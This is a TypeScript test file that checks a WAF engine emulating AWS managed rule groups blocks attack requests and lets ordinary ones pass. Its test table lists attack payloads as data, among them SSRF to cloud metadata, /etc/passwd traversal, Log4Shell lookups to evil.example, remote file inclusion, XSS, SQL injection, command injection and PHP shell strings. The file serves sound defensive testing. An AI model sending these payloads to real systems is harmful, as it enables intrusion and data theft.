/** The managed rule groups as an edge compiles them, with RE2 below: which of AWS's rules refuses what. */
import { expect, test } from 'bun:test';
import { linearRegex } from '../../src/adapters/regex/linear-regex.ts';
import { createWafEngine } from '../../src/core/viewer-request/waf/create-waf-engine.ts';
import { OWN_RULES } from '../../src/core/viewer-request/waf/managed/own-rules.ts';
import { ATTACKS, ruleNameOf } from '../../src/core/viewer-request/waf/managed/rule-names.ts';
import { inspectedRequest } from '../../src/core/viewer-request/waf/seclang/inspected-request.fixture.ts';
import { MANAGED_RULE_GROUPS } from '../../src/tables/managed-rule-groups.ts';

const groups = createWafEngine(linearRegex).managedRuleGroup;
const browser = {
  'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/130.0',
  accept: 'text/html,*/*;q=0.8',
  'accept-language': 'en',
};
const form = { ...browser, 'content-type': 'application/x-www-form-urlencoded' };
type Request = Parameters<typeof inspectedRequest>[0];

function rulesOf(group: string, request: Request, lists: Parameters<typeof groups>[1] = []): string[] {
  const found = groups({ vendor: 'AWS', name: `AWSManagedRules${group}`, version: undefined }, lists);
  return [...found!.evaluate(inspectedRequest({ headers: browser, ...request }))].map(({ rule }) => rule.name);
}

const get = (target: string, headers: Request['headers'] = browser): Request => ({ target, headers });
const post = (body: string, headers: Request['headers'] = form): Request => ({ method: 'POST', body, headers });

test.each<[group: string, request: Request, want: string]>([
  ['CommonRuleSet', { headers: {} }, 'NoUserAgent_HEADER'],
  ['CommonRuleSet', get('/', { ...browser, 'user-agent': 'sqlmap/1.7' }), 'UserAgent_BadBots_HEADER'],
  ['CommonRuleSet', get(`/?${'q'.repeat(2049)}`), 'SizeRestrictions_QUERYSTRING'],
  ['CommonRuleSet', get('/', { ...browser, cookie: `a=${'q'.repeat(10_240)}` }), 'SizeRestrictions_Cookie_HEADER'],
  ['CommonRuleSet', post('q'.repeat(8193)), 'SizeRestrictions_BODY'],
  ['CommonRuleSet', get(`/${'q'.repeat(1024)}`), 'SizeRestrictions_URIPATH'],
  ['CommonRuleSet', get('/?url=http://169.254.169.254/latest/meta-data/'), 'EC2MetaDataSSRF_QUERYARGUMENTS'],
  ['CommonRuleSet', post('url=http%3A%2F%2F169.254.169.254%2F'), 'EC2MetaDataSSRF_BODY'],
  ['CommonRuleSet', get('/?file=../../../../etc/passwd'), 'GenericLFI_QUERYARGUMENTS'],
  ['CommonRuleSet', post('file=../../../etc/passwd'), 'GenericLFI_BODY'],
  ['CommonRuleSet', get('/..%2f..%2fetc/passwd'), 'GenericLFI_URIPATH'],
  ['CommonRuleSet', get('/app/settings.ini'), 'RestrictedExtensions_URIPATH'],
  ['CommonRuleSet', get('/?page=http://192.0.2.7/shell.txt'), 'GenericRFI_QUERYARGUMENTS'],
  ['CommonRuleSet', get('/?q=<script>alert(1)</script>'), 'CrossSiteScripting_QUERYARGUMENTS'],
  ['CommonRuleSet', post('q=%3Cscript%3Ealert(1)%3C/script%3E'), 'CrossSiteScripting_BODY'],
  ['CommonRuleSet', get('/', { ...browser, cookie: 'a=<script>alert(1)</script>' }), 'CrossSiteScripting_COOKIE'],
  ['AdminProtectionRuleSet', get('/admin/login'), 'AdminProtection_URIPATH'],
  ['KnownBadInputsRuleSet', { headers: { ...browser, host: 'localhost:80' } }, 'Host_localhost_HEADER'],
  ['KnownBadInputsRuleSet', { method: 'PROPFIND' }, 'PROPFIND_METHOD'],
  ['KnownBadInputsRuleSet', get('/WEB-INF/web.xml'), 'ExploitablePaths_URIPATH'],
  ['KnownBadInputsRuleSet', get('/', { ...browser, 'x-api': '${jndi:ldap://evil.example/a}' }), 'Log4JRCE_HEADER'],
  ['KnownBadInputsRuleSet', get('/?x=${${lower:j}ndi:ldap://evil.example/a}'), 'Log4JRCE_QUERYSTRING'],
  ['KnownBadInputsRuleSet', post('a=(java.lang.Runtime).getRuntime().exec("whoami")'), 'JavaDeserializationRCE_BODY'],
  [
    'KnownBadInputsRuleSet',
    post('{"then":"$1:__proto__:then"}', { ...browser, 'content-type': 'text/plain' }),
    'ReactJSRCE_BODY',
  ],
  ['KnownBadInputsRuleSet', get('/?x=;cat%20/etc/passwd'), 'CommandInjection_QUERYSTRING'],
  ['SQLiRuleSet', get("/?id=1'%20or%20'1'='1"), 'SQLi_QUERYARGUMENTS'],
  ['SQLiRuleSet', post("id=1' union select 1,2--"), 'SQLi_BODY'],
  ['SQLiRuleSet', get('/', { ...browser, cookie: "id=1' or '1'='1" }), 'SQLi_COOKIE'],
  ['LinuxRuleSet', get('/?f=/proc/self/environ'), 'LFI_QUERYSTRING'],
  ['UnixRuleSet', post('a=$(cat /etc/passwd)'), 'UNIXShellCommandsVariables_BODY'],
  ['WindowsRuleSet', get('/?a=powershell.exe%20-enc'), 'PowerShellCommands_QUERYARGUMENTS'],
  ['PHPRuleSet', get('/?a=%3C?php%20system($_GET[1])'), 'PHPHighRiskMethodsVariables_QUERYSTRING'],
  ['WordPressRuleSet', get('/xmlrpc.php'), 'WordPressExploitablePaths_URIPATH'],
  ['WordPressRuleSet', get('/?do-reset-wordpress=1'), 'WordPressExploitableCommands_QUERYSTRING'],
])('%s: %j is refused by %s', (group, request, want) => {
  expect(rulesOf(group, request)).toContain(want);
});

test("lists of addresses are the operator's", () => {
  const lists = [{ name: 'AnonymousIPList', addresses: ['198.51.100.0/24'] }];
  expect(rulesOf('AnonymousIpList', { viewerAddress: '198.51.100.9' }, lists)).toEqual(['AnonymousIPList']);
  expect(rulesOf('AnonymousIpList', { viewerAddress: '192.0.2.9' }, lists)).toEqual([]);
  expect(rulesOf('AnonymousIpList', { viewerAddress: '198.51.100.9' })).toEqual([]);
});

const ordinary: Request[] = [
  get('/'),
  get('/assets/app.3f9a.js?v=20261128'),
  get('/search?q=red+shoes+size+42&sort=price&page=2'),
  get('/blog/2026/11/28/rock-n-roll?utm_source=news&utm_medium=email'),
  get('/api/items?filter[name]=o%27brien&fields=id,name', { ...browser, cookie: 'session=4f3c2a; theme=dark; _ga=GA1.2.1.2' }),
  post('name=Ann+Lee&comment=I+like+it,+and+it%27s+cheap%21&age=42'),
  post('{"title":"Hello, world","tags":["a","b"],"n":1.5}', { ...browser, 'content-type': 'application/json' }),
  { method: 'PUT', target: '/files/report.pdf', body: 'x', headers: { ...browser, 'content-type': 'application/pdf' } },
  { method: 'DELETE', target: '/api/items/42' },
];

test.each(MANAGED_RULE_GROUPS.map(({ name }) => [name.slice('AWSManagedRules'.length)] as const))(
  '%s lets ordinary requests pass',
  (group) => {
    for (const request of ordinary) expect([request, rulesOf(group, request)]).toEqual([request, []]);
  },
);

test('each class of attack has a rule of AWS or ours wherever it is found, in some group', () => {
  const names = new Set(MANAGED_RULE_GROUPS.flatMap(({ name, rules }) => rules.map((rule) => `${name} ${rule.name}`)));
  for (const attack of ATTACKS) {
    for (const place of ['QUERY', 'BODY', 'COOKIE', 'HEADER', 'URIPATH', 'METHOD'] as const) {
      const found = MANAGED_RULE_GROUPS.map(({ name }) => [name, ruleNameOf(name, attack, place)] as const).filter(
        ([, rule]) => rule !== undefined,
      );
      expect([attack, place, found.length > 0]).toEqual([attack, place, true]);
      for (const [group, rule] of found)
        expect([attack, place, names.has(`${group} ${rule!}`) ? 'known' : rule]).toEqual([attack, place, 'known']);
    }
  }
});

test('each rule of each group is answered by something', () => {
  const lists = new Set([
    'AWSManagedIPReputationList',
    'AWSManagedReconnaissanceList',
    'AWSManagedIPDDoSList',
    'AnonymousIPList',
    'HostingProviderIPList',
  ]);
  const places = ['QUERY', 'BODY', 'COOKIE', 'HEADER', 'URIPATH', 'METHOD'] as const;
  for (const { name, rules } of MANAGED_RULE_GROUPS) {
    const byAttack = new Set(ATTACKS.flatMap((attack) => places.map((place) => ruleNameOf(name, attack, place))));
    for (const rule of rules)
      expect([rule.name, byAttack.has(rule.name) || OWN_RULES.has(rule.name) || lists.has(rule.name)]).toEqual([rule.name, true]);
  }
});

test('a group or version that is not there is undefined', () => {
  expect(groups({ vendor: 'AWS', name: 'Nothing', version: undefined }, [])).toBeUndefined();
  expect(groups({ vendor: 'AWS', name: 'AWSManagedRulesCommonRuleSet', version: 'Version_99.0' }, [])).toBeUndefined();
  expect(groups({ vendor: 'AWS', name: 'AWSManagedRulesCommonRuleSet', version: 'Version_1.0' }, [])?.version).toBe(
    'Version_1.0',
  );
});
